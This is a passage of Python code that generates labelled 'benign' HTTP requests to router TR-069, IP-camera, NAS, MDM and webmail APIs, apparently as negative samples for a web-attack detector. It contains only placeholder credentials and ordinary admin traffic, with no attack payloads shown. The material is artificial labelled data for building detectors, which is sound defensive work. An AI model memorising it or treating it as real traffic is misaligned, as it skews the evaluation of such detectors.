        params = pvs([("InternetGatewayDevice.DeviceSummary", "InternetGatewayDevice:1.4[](Baseline:2, EthernetLAN:1, WiFiLAN:2, Time:1)"),
                      ("InternetGatewayDevice.DeviceInfo.HardwareVersion", "v1.0"),
                      ("InternetGatewayDevice.DeviceInfo.SoftwareVersion", ver),
                      ("InternetGatewayDevice.ManagementServer.ConnectionRequestURL", "http://100.72.%d.19:7547/tr069/cr_%s" % (10 + i, sn[-6:])),
                      ("InternetGatewayDevice.ManagementServer.ParameterKey", "cfg-2024-05-%02d" % (i + 1)),
                      ("InternetGatewayDevice.WANDevice.1.WANConnectionDevice.1.WANPPPConnection.1.ExternalIPAddress", "100.72.%d.19" % (10 + i))])
        inner = ('<cwmp:Inform><DeviceId><Manufacturer>%s</Manufacturer><OUI>%s</OUI><ProductClass>%s</ProductClass><SerialNumber>%s</SerialNumber></DeviceId>'
                 '<Event SOAP-ENC:arrayType="cwmp:EventStruct[1]"><EventStruct><EventCode>%s</EventCode><CommandKey></CommandKey></EventStruct></Event>'
                 '<MaxEnvelopes>1</MaxEnvelopes><CurrentTime>2024-05-02T03:1%d:07+02:00</CurrentTime><RetryCount>0</RetryCount>'
                 '<ParameterList SOAP-ENC:arrayType="cwmp:ParameterValueStruct[6]">%s</ParameterList></cwmp:Inform>'
                 % (pick(["Huawei Technologies Co., Ltd", "TP-Link", "AVM", "ZTE", "D-Link"], i), oui, cls, sn, ev, i, params))
        o.add("benign", "tr069-inform", request(
            "POST", pick(["/cwmp", "/acs", "/ACS-server/ACS", "/service/cwmp", "/cwmpWeb/CPEMgt"], i), "acs.example-isp.net:7547",
            ua=pick(["HW_ATP_HTTP", "TP-LINK CWMP Client", "AVM FRITZ!Box 7530 164.07.57", "ZTE-CWMP", "cwmp"], i),
            headers=[["SOAPAction", ""]], body=cwmp(inner, str(1000 + i)), ctype='text/xml; charset="utf-8"', accept=None, k=i))
    o.add("benign", "tr069-inform", request("POST", "/cwmp", "acs.example-isp.net:7547", ua="HW_ATP_HTTP",
                                            headers=[["Cookie", "session=5f2e0c1a9b"]], body="", ctype='text/xml; charset="utf-8"', accept=None, k=k))
    o.add("benign", "tr069-inform", request(
        "POST", "/cwmp", "acs.example-isp.net:7547", ua="HW_ATP_HTTP", headers=[["Cookie", "session=5f2e0c1a9b"]],
        body=cwmp('<cwmp:GetParameterValuesResponse><ParameterList SOAP-ENC:arrayType="cwmp:ParameterValueStruct[3]">%s</ParameterList></cwmp:GetParameterValuesResponse>'
                  % pvs([("InternetGatewayDevice.LANDevice.1.WLANConfiguration.1.SSID", "Café & Bar's WiFi"),
                         ("InternetGatewayDevice.LANDevice.1.WLANConfiguration.1.KeyPassphrase", "Tr0ub4dor&3;horse"),
                         ("InternetGatewayDevice.Time.NTPServer1", "ntp.example-isp.net")]), "ACS_17"),
        ctype='text/xml; charset="utf-8"', accept=None, k=k))
    o.add("benign", "tr069-inform", request(
        "POST", "/cwmp", "acs.example-isp.net:7547", ua="TP-LINK CWMP Client", headers=[["Cookie", "session=9ab31c"]],
        body=cwmp('<cwmp:TransferComplete><CommandKey>fw-upgrade-2024-05</CommandKey><FaultStruct><FaultCode>0</FaultCode><FaultString></FaultString></FaultStruct>'
                  '<StartTime>2024-05-02T03:20:00Z</StartTime><CompleteTime>2024-05-02T03:24:41Z</CompleteTime></cwmp:TransferComplete>', "ACS_18"),
        ctype='text/xml; charset="utf-8"', accept=None, k=k))
    o.add("benign", "tr069-connreq", request(
        "GET", "/tr069/cr_A1B2C3", "100.72.10.19:7547", ua="GenieACS/1.2.9",
        headers=[["Authorization", 'Digest username="cr-user", realm="IGD", nonce="4d2f", uri="/tr069/cr_A1B2C3", response="8e1f0c2d3b4a59687766554433221100", qop=auth, nc=00000001, cnonce="77aa"']],
        k=k))


def onvif(body, user="onvif", nonce="LKqI6G/AikKCQrN0zqZFlg==", created="2024-05-02T09:14:07Z"):
    return ('<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope">'
            '<s:Header><Security s:mustUnderstand="1" xmlns="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd">'
            '<UsernameToken><Username>%s</Username><Password Type="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-username-token-profile-1.0#PasswordDigest">'
            'tuOSpGlFlIXsozq4HFNeeGeFLEI=</Password><Nonce EncodingType="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#Base64Binary">%s</Nonce>'
            '<Created xmlns="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd">%s</Created></UsernameToken></Security></s:Header>'
            '<s:Body xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema">%s</s:Body></s:Envelope>'
            % (user, nonce, created, body))


def benign_cameras(o):
    k = o.k
    dig = [["Authorization", 'Digest username="admin", realm="IP Camera(C2136)", nonce="4e6a59334d4449344e4449364e6a4d784e7a55324d54593d", '
                             'uri="/ISAPI/System/deviceInfo", response="6f1b3a4c2d5e7f8091a2b3c4d5e6f708", qop=auth, nc=00000002, cnonce="b1f2c3d4"']]
    hik = [
        ("GET", "/ISAPI/System/deviceInfo", None),
        ("GET", "/ISAPI/Streaming/channels/101/picture?snapShotImageType=JPEG", None),
        ("GET", "/ISAPI/System/status", None),
        ("PUT", "/ISAPI/System/Video/inputs/channels/1/overlays/text/1",
         '<?xml version="1.0" encoding="UTF-8"?><TextOverlay version="2.0" xmlns="http://www.hikvision.com/ver20/XMLSchema"><id>1</id><enabled>true</enabled>'
         '<positionX>16</positionX><positionY>560</positionY><displayText>%s</displayText></TextOverlay>' % xml_esc("Loading Dock #3 (North) & Gate")),
        ("PUT", "/ISAPI/System/time/ntpServers/1",
         '<?xml version="1.0" encoding="UTF-8"?><NTPServer version="2.0" xmlns="http://www.hikvision.com/ver20/XMLSchema"><id>1</id>'
         '<addressingFormatType>hostname</addressingFormatType><hostName>pool.ntp.org</hostName><portNo>123</portNo><synchronizeInterval>1440</synchronizeInterval></NTPServer>'),
        ("PUT", "/ISAPI/System/Network/interfaces/1/ipAddress",
         '<?xml version="1.0" encoding="UTF-8"?><IPAddress version="2.0" xmlns="http://www.hikvision.com/ver20/XMLSchema"><ipVersion>dual</ipVersion>'
         '<addressingType>static</addressingType><ipAddress>10.50.1.21</ipAddress><subnetMask>255.255.255.0</subnetMask>'
         '<DefaultGateway><ipAddress>10.50.1.1</ipAddress></DefaultGateway><PrimaryDNS><ipAddress>10.50.0.53</ipAddress></PrimaryDNS></IPAddress>'),
        ("GET", "/ISAPI/Event/notification/alertStream", None),
        ("POST", "/ISAPI/ContentMgmt/search",
         '<?xml version="1.0" encoding="UTF-8"?><CMSearchDescription><searchID>C7A1E8B0-6D5C-4B2A-9F1E-3D2C1B0A9F8E</searchID><trackList><trackID>101</trackID></trackList>'
         '<timeSpanList><timeSpan><startTime>2024-05-01T00:00:00Z</startTime><endTime>2024-05-01T23:59:59Z</endTime></timeSpan></timeSpanList>'
         '<maxResults>40</maxResults><searchResultPostion>0</searchResultPostion><metadataList><metadataDescriptor>//recordType.meta.std-cgi.com</metadataDescriptor></metadataList></CMSearchDescription>'),
        ("GET", "/ISAPI/Security/users", None),
        ("PUT", "/SDK/webLanguage", '<?xml version="1.0" encoding="UTF-8"?><language>German</language>'),
        ("GET", "/SDK/webLanguage", None),
        ("PUT", "/ISAPI/System/Video/inputs/channels/1",
         '<?xml version="1.0" encoding="UTF-8"?><VideoInputChannel version="2.0" xmlns="http://www.hikvision.com/ver20/XMLSchema"><id>1</id>'
         '<inputPort>1</inputPort><name>Eingang Süd / Parkplatz</name><videoFormat>PAL</videoFormat></VideoInputChannel>'),
    ]
    for i, (m, p, b) in enumerate(hik):
        o.add("benign", "hikvision-isapi", request(m, p, pick(["cam01.example.net", "10.50.1.21", "nvr.example.net:8080"], i),
                                                   headers=dig, body=b, ctype="application/xml; charset=UTF-8" if b else None,
                                                   ua=pick(["Hik-Connect/5.3.1 (iPhone; iOS 17.4)", "python-requests/2.31.0", BROWSER_UAS[0], "Home Assistant/2024.4.3 aiohttp/3.9.3 Python/3.12"], i), k=i))
    # --- Dahua CGI and RPC2
    dh = [["Authorization", 'Digest username="admin", realm="Login to 4K03FA1PAJ12345", nonce="1207623839", uri="/cgi-bin/snapshot.cgi?channel=1", '
                            'response="a1b2c3d4e5f60718293a4b5c6d7e8f90", opaque="a1b2c3", qop=auth, nc=00000001, cnonce="f0e1d2c3"']]
    dahua = [
        ("GET", "/cgi-bin/snapshot.cgi?channel=1"),
        ("GET", "/cgi-bin/magicBox.cgi?action=getSystemInfo"),
        ("GET", "/cgi-bin/configManager.cgi?action=getConfig&name=ChannelTitle"),
        ("GET", "/cgi-bin/configManager.cgi?action=setConfig&ChannelTitle%5B0%5D.Name=Eingang%20S%C3%BCd"),
        ("GET", "/cgi-bin/configManager.cgi?action=setConfig&NTP.Address=pool.ntp.org&NTP.Enable=true&NTP.UpdatePeriod=60"),
        ("GET", "/cgi-bin/eventManager.cgi?action=attach&codes=%5BVideoMotion%2CCrossLineDetection%5D&heartbeat=5"),
        ("GET", "/cgi-bin/mediaFileFind.cgi?action=factory.create"),
        ("GET", "/cgi-bin/ptz.cgi?action=start&channel=1&code=GotoPreset&arg1=0&arg2=3&arg3=0"),
    ]
    for i, (m, p) in enumerate(dahua):
        o.add("benign", "dahua-cgi", request(m, p, pick(["dvr.example.com", "10.50.2.30"], i), headers=dh,
                                             ua=pick(["Blue Iris 5.8.9.4", "python-requests/2.31.0", "Frigate/0.13.2", "gDMSS Plus/4.90.000 (iOS)"], i), k=i))
    o.add("benign", "dahua-rpc", request(
        "POST", "/RPC2_Login", "dvr.example.com", bot=False, headers=[["X-Requested-With", "XMLHttpRequest"]],
        body=jdump({"method": "global.login", "params": {"userName": "admin", "password": "6F8E2C1B9A7D5E3F4C2B1A0D9E8F7A6B", "clientType": "Web3.0",
                                                          "loginType": "Direct", "authorityType": "Default", "passwordType": "Default"}, "id": 2, "session": "30d4d1c5a2bd"}),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    o.add("benign", "dahua-rpc", request(
        "POST", "/RPC2", "dvr.example.com", bot=False, headers=[["X-Requested-With", "XMLHttpRequest"], ["Cookie", "DWebClientSessionID=30d4d1c5a2bd; username=admin"]],
        body=jdump({"method": "configManager.getConfig", "params": {"name": "Encode"}, "id": 7, "session": "30d4d1c5a2bd"}),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    # --- ONVIF (NVRs and VMS)
    ov = [
        ("/onvif/device_service", '<GetSystemDateAndTime xmlns="http://www.onvif.org/ver10/device/wsdl"/>'),
        ("/onvif/device_service", '<GetCapabilities xmlns="http://www.onvif.org/ver10/device/wsdl"><Category>All</Category></GetCapabilities>'),
        ("/onvif/device_service", '<GetDeviceInformation xmlns="http://www.onvif.org/ver10/device/wsdl"/>'),
        ("/onvif/media_service", '<GetProfiles xmlns="http://www.onvif.org/ver10/media/wsdl"/>'),
        ("/onvif/media_service", '<GetSnapshotUri xmlns="http://www.onvif.org/ver10/media/wsdl"><ProfileToken>Profile_1</ProfileToken></GetSnapshotUri>'),
        ("/onvif/media_service", '<GetStreamUri xmlns="http://www.onvif.org/ver10/media/wsdl"><StreamSetup><Stream xmlns="http://www.onvif.org/ver10/schema">RTP-Unicast</Stream>'
                                 '<Transport xmlns="http://www.onvif.org/ver10/schema"><Protocol>RTSP</Protocol></Transport></StreamSetup><ProfileToken>Profile_1</ProfileToken></GetStreamUri>'),
        ("/onvif/PTZ", '<ContinuousMove xmlns="http://www.onvif.org/ver20/ptz/wsdl"><ProfileToken>Profile_1</ProfileToken><Velocity>'
                       '<PanTilt x="0.5" y="0" xmlns="http://www.onvif.org/ver10/schema"/></Velocity><Timeout>PT1S</Timeout></ContinuousMove>'),
        ("/onvif/event_service", '<PullMessages xmlns="http://www.onvif.org/ver10/events/wsdl"><Timeout>PT60S</Timeout><MessageLimit>100</MessageLimit></PullMessages>'),
        ("/onvif/device_service", '<SetHostname xmlns="http://www.onvif.org/ver10/device/wsdl"><Name>cam-lobby-02</Name></SetHostname>'),
        ("/onvif/device_service", '<SetNTP xmlns="http://www.onvif.org/ver10/device/wsdl"><FromDHCP>false</FromDHCP><NTPManual><Type xmlns="http://www.onvif.org/ver10/schema">DNS</Type>'
                                  '<DNSname xmlns="http://www.onvif.org/ver10/schema">time.example.com</DNSname></NTPManual></SetNTP>'),
    ]
    for i, (p, b) in enumerate(ov):
        o.add("benign", "onvif", request("POST", p, pick(["10.50.1.21", "10.50.1.22", "cam-lobby-02.example.net"], i),
                                         ua=pick(["gSOAP/2.8", "Milestone XProtect", "ONVIF Device Manager", "python-zeep/4.2.1"], i),
                                         body=onvif(b), ctype='application/soap+xml; charset=utf-8; action="http://www.onvif.org/ver10/device/wsdl"', k=i))
    # --- Axis VAPIX
    ax = [["Authorization", 'Digest username="root", realm="AXIS_ACCC8E123456", nonce="0012a3b4c5d6", uri="/axis-cgi/jpg/image.cgi", response="11223344556677889900aabbccddeeff", qop=auth, nc=00000001, cnonce="cafe01"']]
    for i, p in enumerate(["/axis-cgi/jpg/image.cgi?resolution=1920x1080&compression=30", "/axis-cgi/param.cgi?action=list&group=root.Brand",
                           "/axis-cgi/param.cgi?action=update&root.Image.I0.Text.String=Lobby%20%23%201%20-%20%25F%20%25T&root.Image.I0.Text.TextEnabled=yes",
                           "/axis-cgi/com/ptz.cgi?move=left&camera=1", "/axis-cgi/mjpg/video.cgi?fps=10"]):
        o.add("benign", "axis-vapix", request("GET", p, "axis-lobby.example.net", headers=ax, ua=pick(["Milestone XProtect", "curl/8.4.0"], i), k=i))
    o.add("benign", "axis-vapix", request("POST", "/axis-cgi/basicdeviceinfo.cgi", "axis-lobby.example.net", headers=ax, ua="python-requests/2.31.0",
                                          body=jdump({"apiVersion": "1.0", "context": "inventory", "method": "getAllProperties"}), ctype="application/json", k=k))
    # --- Uniview LAPI, Reolink API, NVR software
    o.add("benign", "uniview", request("GET", "/LAPI/V1.0/System/DeviceBasicInfo", "nvr.example.com", headers=dig, ua="EZView/2.30.3 (iPhone; iOS 17.4)", k=k))
    o.add("benign", "uniview", request("PUT", "/LAPI/V1.0/Channels/0/Media/OSDs/Contents", "nvr.example.com", headers=dig, ua=BROWSER_UAS[0],
                                       body=jdump({"ContentStyle": {"FontStyle": 0, "FontSize": 1, "Color": 0}, "ContentInfo": [
                                           {"Enabled": 1, "Num": 1, "Area": {"X": 16, "Y": 16}, "ContentInfo": [{"ContentType": 1, "Value": "Lager Halle 2 (Tor A)"}]}]}),
                                       ctype="application/json", k=k))
    o.add("benign", "reolink", request("POST", "/cgi-bin/api.cgi?cmd=Login", "10.50.3.40", ua="Reolink/8.14.4 (iPhone; iOS 17.4)",
                                       body=jdump([{"cmd": "Login", "param": {"User": {"Version": "0", "userName": "admin", "password": "Zx9$q&Lm!2"}}}]), ctype="application/json", k=k))
    o.add("benign", "reolink", request("GET", "/cgi-bin/api.cgi?cmd=Snap&channel=0&rs=wuuPhkmUCeI9WG7C&token=6d9a6c1f0e2b", "10.50.3.40",
                                       ua="Home Assistant/2024.4.3 aiohttp/3.9.3 Python/3.12", k=k))
    o.add("benign", "reolink", request("POST", "/cgi-bin/api.cgi?cmd=SetOsd&token=6d9a6c1f0e2b", "10.50.3.40", ua="Reolink/8.14.4 (iPhone; iOS 17.4)",
                                       body=jdump([{"cmd": "SetOsd", "param": {"Osd": {"channel": 0, "osdChannel": {"enable": 1, "name": "Garten (hinten)", "pos": "Lower Right"},
                                                                                      "osdTime": {"enable": 1, "pos": "Top Center"}}}}]), ctype="application/json", k=k))
    o.add("benign", "frigate", request("GET", "/api/events?cameras=front_door&labels=person&limit=25&include_thumbnails=0", "frigate.home.example", bot=False, k=k))
    o.add("benign", "blueiris", request("GET", "/image/frontyard?q=50&s=80", "bi.home.example:81", ua="Blue Iris/5.8.9.4 (iOS)", k=k))
    o.add("benign", "synology-ss", request("GET", "/webapi/entry.cgi?api=SYNO.SurveillanceStation.Camera&method=GetSnapshot&version=9&cameraId=3&_sid=Uw3jG8kq", "ds.example.com:5001",
                                           ua="DS cam/4.11.1 (iPhone; iOS 17.4)", k=k))
    # --- DVR/NVR web UIs' ordinary settings saves
    o.add("benign", "dvr-ntp", request("POST", "/cgi-bin/set_ntp.cgi", "dvr.example.com", bot=False,
                                       body="ntp_enable=1&ntp_server=ptbtime1.ptb.de&timezone=1&dst=1", ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "dvr-smtp", request("POST", "/cgi-bin/smtp_test.cgi", "dvr.example.com", bot=False,
                                        body=form([("smtp_server", "smtp.example.com"), ("smtp_port", "587"), ("smtp_user", "cams@example.com"),
                                                   ("smtp_pass", "Mail!2024#cams"), ("smtp_to", "security-team@example.com"), ("subject", "[CAM] Motion @ Lager 2")]),
                                        ctype="application/x-www-form-urlencoded", k=k))


def benign_nas(o):
    k = o.k
    sid = "_sid=Uw3jG8kqPq1yE9WJx0N3RC5AeFp7bT"
    syn = [
        "/webapi/query.cgi?api=SYNO.API.Info&version=1&method=query&query=SYNO.API.Auth,SYNO.FileStation.",
        "/webapi/entry.cgi?api=SYNO.FileStation.List&version=2&method=list_share&additional=%5B%22real_path%22%2C%22size%22%2C%22owner%22%5D&" + sid,
        "/webapi/entry.cgi?api=SYNO.FileStation.List&version=2&method=list&folder_path=%2Fhome%2FPhotos%2F2024%2F05%20-%20Italy%20%26%20Alps&offset=0&limit=100&sort_by=name&" + sid,
        "/webapi/entry.cgi?api=SYNO.FileStation.List&version=2&method=list&folder_path=%2Fbackups%2Fserver01%2Fetc%2Fnginx%2Fsites-enabled&" + sid,
        "/webapi/entry.cgi?api=SYNO.FileStation.Search&version=2&method=start&folder_path=%22%2Fprojects%22&pattern=%22*.dwg%22&" + sid,
        "/webapi/entry.cgi?api=SYNO.FileStation.Download&version=2&method=download&path=%5B%22%2Fhome%2Fdocs%2FQ3%20report%20(final)%20%26%20notes.xlsx%22%5D&mode=download&" + sid,
        "/webapi/entry.cgi?api=SYNO.FileStation.Thumb&version=2&method=get&path=%22%2Fphoto%2FFamily%2FIMG_2041.HEIC%22&size=medium&" + sid,
        "/webapi/entry.cgi?api=SYNO.FileStation.CreateFolder&version=2&method=create&folder_path=%5B%22%2Fprojects%22%5D&name=%5B%22Client%20A%20-%20O%27Brien%20%26%20Sons%22%5D&" + sid,
        "/webapi/entry.cgi?api=SYNO.FileStation.Rename&version=2&method=rename&path=%5B%22%2Fhome%2Fdocs%2Fdraft.docx%22%5D&name=%5B%22Angebot%20Nr.%20117%20(v2).docx%22%5D&" + sid,
        "/webapi/entry.cgi?api=SYNO.Core.System&method=info&version=3&" + sid,
        "/webapi/entry.cgi?api=SYNO.DownloadStation.Task&version=1&method=create&uri=https%3A%2F%2Fcdimage.debian.org%2Fdebian-cd%2Fcurrent%2Famd64%2Fiso-cd%2Fdebian-12.5.0-amd64-netinst.iso&" + sid,
        "/webapi/entry.cgi?api=SYNO.FileStation.List&version=2&method=list&folder_path=%2Fbackups%2Fserver01%2Fetc&filetype=all&" + sid,
    ]
    for i, p in enumerate(syn):
        o.add("benign", "synology-filestation", request("GET", p, pick(["ds.example.com:5001", "nas.home.example", "192.168.1.20:5000"], i),
                                                        ua=pick(["DS file/5.17.0 (iPhone; iOS 17.4)", BROWSER_UAS[1], "Synology Drive Client/3.5.0", BROWSER_UAS[0]], i), k=i))
    o.add("benign", "synology-auth", request(
        "POST", "/webapi/entry.cgi", "ds.example.com:5001", bot=False,
        body=form([("api", "SYNO.API.Auth"), ("version", "7"), ("method", "login"), ("session", "webui"), ("tabid", "31337"),
                   ("enable_syno_token", "yes"), ("account", "eva"), ("passwd", "j'aime_les_crêpes"), ("otp_code", "482913"),
                   ("enable_device_token", "no"), ("timezone", "+02:00"), ("rsa", ""), ("client", "browser")]),
        ctype="application/x-www-form-urlencoded; charset=UTF-8", k=k))
    for i, (path, fname, content, ct) in enumerate([
            ("/home/docs", "Q3 report (final) & notes.csv", "region;revenue;notes\nNord;12.400;\"incl. 5% rebate\"\nSüd;9.870;\n", "text/csv"),
            ("/backups/router", "router-config-2024-05-01.cfg", "# exported config\nsystem hostname gw-branch7\nip dns 10.0.0.53\n", "application/octet-stream"),
            ("/photo/Family", "IMG_2041.txt", "placeholder for a photo's sidecar notes", "text/plain"),
            ("/home/eva/.ssh-backup", "id_ed25519.pub", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH3k8Q9wJ1vL0sXcR2mT5yP7uN4aB6dE8fG0hJ2kL4mN eva@laptop", "application/octet-stream")]):
        bd = pick(BOUNDARIES, i)
        o.add("benign", "synology-upload", request(
            "POST", "/webapi/entry.cgi?api=SYNO.FileStation.Upload&method=upload&version=2&" + sid, "ds.example.com:5001", bot=False,
            body=multipart([('name="path"', path, []), ('name="create_parents"', "true", []), ('name="overwrite"', "false", []),
                            ('name="file"; filename="%s"' % fname, content, ["Content-Type: " + ct])], bd),
            ctype="multipart/form-data; boundary=" + bd, k=i))
    # --- QNAP File Station
    qs = "sid=a1b2c3d4e5f6g7h8"
    qn = [
        "/cgi-bin/authLogin.cgi?user=admin&pwd=" + quote(b64("W1nter is coming (2024)"), safe="") + "&remme=1&service=1&q_lang=ENG",
        "/cgi-bin/filemanager/utilRequest.cgi?func=get_tree&" + qs + "&is_iso=0&node=share_root",
        "/cgi-bin/filemanager/utilRequest.cgi?func=get_list&" + qs + "&is_iso=0&list_mode=all&path=%2FPublic%2FScans%202024&dir=ASC&limit=200&sort=filename&start=0&hidden_file=0",
        "/cgi-bin/filemanager/utilRequest.cgi?func=get_viewer&" + qs + "&source_path=%2FMultimedia%2FPhotos&source_file=IMG_1123.JPG",
        "/cgi-bin/filemanager/utilRequest.cgi?func=rename&" + qs + "&path=%2FPublic&source_name=scan001.pdf&dest_name=Rechnung%20%2342%20(bezahlt).pdf",
        "/cgi-bin/filemanager/utilRequest.cgi?func=delete&" + qs + "&path=%2FPublic%2Ftmp&file_total=2&file_name=old.zip&file_name=old%20(1).zip",
        "/cgi-bin/filemanager/utilRequest.cgi?func=stat&" + qs + "&path=%2Fhomes%2Fadmin%2Fbackup%2Fetc&file_total=1&file_name=passwd.bak",
        "/cgi-bin/sys/sysRequest.cgi?subfunc=sys_info&" + qs,
    ]
    for i, p in enumerate(qn):
        o.add("benign", "qnap-filestation", request("GET", p, pick(["nas.example.net:8080", "192.168.1.30:8080"], i),
                                                    ua=pick(["Qfile/5.6.2 (iPhone; iOS 17.4)", BROWSER_UAS[2], "Qsync/5.1.1 (Windows)"], i), k=i))
    bd = BOUNDARIES[1]
    o.add("benign", "qnap-upload", request(
        "POST", "/cgi-bin/filemanager/utilRequest.cgi?func=upload&type=standard&" + qs + "&dest_path=%2FPublic%2FScans%202024&overwrite=1&progress=-Public-Scans-2024-scan_0042.pdf",
        "nas.example.net:8080", bot=False,
        body=multipart([('name="file"; filename="scan_0042.pdf"', "%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF", ["Content-Type: application/pdf"])], bd),
        ctype="multipart/form-data; boundary=" + bd, k=k))
    # --- WebDAV, WD, TrueNAS
    o.add("benign", "webdav", request(
        "PROPFIND", "/remote.php/dav/files/eva/Photos/2024/", "cloud.home.example", ua="Mozilla/5.0 (Windows) mirall/3.12.3 (Nextcloud, windows-10.0.22631 ClientArchitecture: x86_64 OsArchitecture: x86_64)",
        headers=[["Depth", "1"], ["Authorization", "Basic " + b64("eva:app-password-Xk9mQ")]],
        body='<?xml version="1.0"?><d:propfind xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><d:prop><d:getlastmodified/><d:getcontentlength/>'
             '<d:resourcetype/><d:getetag/><oc:fileid/><oc:permissions/></d:prop></d:propfind>',
        ctype="application/xml; charset=utf-8", k=k))
    o.add("benign", "webdav", request("PUT", "/remote.php/dav/files/eva/Documents/Notizen%20%2B%20Ideen%20(Mai).md", "cloud.home.example",
                                      ua="Mozilla/5.0 (Macintosh) mirall/3.12.3 (Nextcloud, osx-23.4.0)", headers=[["Authorization", "Basic " + b64("eva:app-password-Xk9mQ")]],
                                      body="# Ideen\n- NAS: Snapshots täglich 03:00\n- Router: Gast-WLAN \"Free WiFi @ Joe's\" abschalten?\n", ctype="text/markdown", k=k))
    o.add("benign", "wd-mycloud", request("GET", "/api/2.1/rest/device_user?owner=admin&format=json", "mycloud.example.com", ua="WD My Cloud/4.20.0 (iPhone)",
                                          headers=[["Cookie", "isAdmin=1; username=admin; WD-CSRF-TOKEN=a91bc2de"], ["X-CSRF-Token", "a91bc2de"]], k=k))
    tn = [["Authorization", "Bearer 1-Ab9xK2mQ7wE4rT6yU8iO0pLkJhGfDsA"]]
    o.add("benign", "truenas", request("GET", "/api/v2.0/pool", "truenas.home.example", headers=tn, ua="python-requests/2.31.0", accept="application/json", k=k))
    o.add("benign", "truenas", request("POST", "/api/v2.0/pool/dataset", "truenas.home.example", headers=tn, ua="python-requests/2.31.0",
                                       body=jdump({"name": "tank/backups/etc-configs", "compression": "ZSTD", "comments": "nightly /etc of all servers (rsync)"}),
                                       ctype="application/json", k=k))
    o.add("benign", "truenas", request("POST", "/api/v2.0/cronjob", "truenas.home.example", headers=tn, ua="python-requests/2.31.0",
                                       body=jdump({"user": "root", "command": "/mnt/tank/scripts/replicate.sh --target backup01 --dataset tank/photos",
                                                   "description": "offsite replication", "schedule": {"minute": "15", "hour": "3", "dom": "*", "month": "*", "dow": "*"}, "enabled": True}),
                                       ctype="application/json", k=k))


def benign_apps(o):
    k = o.k
    # --- Ivanti EPMM admin API (the real thing, authenticated)
    em = [["Authorization", "Basic " + b64("apiadmin:Epmm#Api-2024")]]
    o.add("benign", "epmm", request("GET", "/api/v2/devices?adminDeviceSpaceId=1&fields=common.id,common.model,common.status&query=common.platform%3D%22iOS%22&limit=50",
                                    "mdm.example.com", headers=em, ua="python-requests/2.31.0", accept="application/json", k=k))
    o.add("benign", "epmm", request("GET", "/mifs/admin/rest/api/v2/device/registration?adminDeviceSpaceId=1&userId=jdoe", "mdm.example.com", headers=em,
                                    ua="python-requests/2.31.0", k=k))
    o.add("benign", "epmm", request("GET", "/mifs/c/d/android.html", "mdm.example.com", ua="Mobile@Work/12.0 (Android 14; Pixel 8)", k=k))
    # --- Zimbra and Roundcube on appliances/hosting
    o.add("benign", "zimbra", request("POST", "/service/soap/SearchRequest", "mail.example.com", bot=False,
                                      headers=[["Cookie", "ZM_AUTH_TOKEN=0_8a9c1e2f3d4b5a6c7e8f"]],
                                      body=jdump({"Header": {"context": {"_jsns": "urn:zimbra", "session": {"_content": 1042}, "account": {"_content": "jdoe@example.com", "by": "name"}}},
                                                  "Body": {"SearchRequest": {"_jsns": "urn:zimbraMail", "sortBy": "dateDesc", "limit": 100, "offset": 0, "locale": {"_content": "en_US"},
                                                                             "types": "conversation", "query": "in:inbox after:-7day (from:noc OR subject:\"outage\")"}}}),
                                      ctype="application/soap+xml; charset=utf-8", k=k))
    o.add("benign", "zimbra", request("GET", "/service/home/~/?auth=co&loc=en_US&id=10&fmt=ics", "mail.example.com", ua="Thunderbird/115.10.1",
                                      headers=[["Authorization", "Basic " + b64("jdoe@example.com:" + PASSWORDS[1])]], k=k))
    o.add("benign", "zimbra", request("POST", "/Autodiscover/Autodiscover.xml", "mail.example.com", ua="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17328; Pro)",
                                      headers=[["Authorization", "Basic " + b64("jdoe@example.com:" + PASSWORDS[1])]],
                                      body='<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">'
                                           '<Request><EMailAddress>jdoe@example.com</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>',
                                      ctype="text/xml", k=k))
    o.add("benign", "roundcube", request("POST", "/?_task=login", "webmail.example.com", bot=False,
                                         body=form([("_token", "Zk4mQ9wE2rT6yU8i"), ("_task", "login"), ("_action", "login"), ("_timezone", "Europe/Berlin"),
                                                    ("_url", "_task=mail&_mbox=INBOX"), ("_user", "eva@example.com"), ("_pass", "j'aime_les_crêpes")]),
                                         ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "roundcube", request("GET", "/?_task=mail&_action=list&_mbox=INBOX&_page=1&_remote=1&_unlock=loading1714641309812&_=1714641309800",
                                         "webmail.example.com", bot=False, headers=[["X-Roundcube-Request", "Zk4mQ9wE2rT6yU8i"], ["X-Requested-With", "XMLHttpRequest"]], k=k))
    o.add("benign", "roundcube", request(
        "POST", "/?_task=mail&_action=send", "webmail.example.com", bot=False,
        body=form([("_token", "Zk4mQ9wE2rT6yU8i"), ("_task", "mail"), ("_action", "send"), ("_id", "1c2d3e4f"), ("_from", "1"),
                   ("_to", "noc@example.com"), ("_subject", "Re: Router reboot tonight?"), ("_is_html", "0"),
                   ("_message", "Hi all,\n\nyes, 23:00-23:15 is fine. The Wi-Fi name stays \"Café & Bar's WiFi\".\n\n> On 02.05. NOC wrote:\n> > We'll reboot gw-branch7 at 23:00.\n\nCheers, Eva")]),
        ctype="application/x-www-form-urlencoded", k=k))
    o.add("benign", "roundcube", request(
        "POST", "/?_task=settings&_framed=1&_remote=1&_from=edit-identity&_id=1&_uploadid=upload1714641309812&_unlock=loading1714641309813&_action=upload",
        "webmail.example.com", bot=False, headers=[["X-Roundcube-Request", "Zk4mQ9wE2rT6yU8i"]],
